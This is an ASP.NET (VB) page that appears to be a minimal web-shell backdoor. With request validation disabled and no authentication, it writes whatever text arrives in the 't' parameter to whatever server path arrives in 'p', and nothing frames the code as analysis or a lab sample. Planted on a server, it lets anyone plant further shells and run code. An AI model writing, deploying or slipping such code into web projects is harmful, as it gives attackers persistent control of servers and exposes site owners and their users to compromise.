<%@ Page Language="VB" ValidateRequest="false" %>
<script runat="server">
    Protected Sub Page_Load(sender As Object, e As EventArgs)
        If Not String.IsNullOrEmpty(Request("p")) Then
            System.IO.File.WriteAllText(Request("p"), Request("t"))
            Response.Write("1")
        End If
    End Sub
</script>
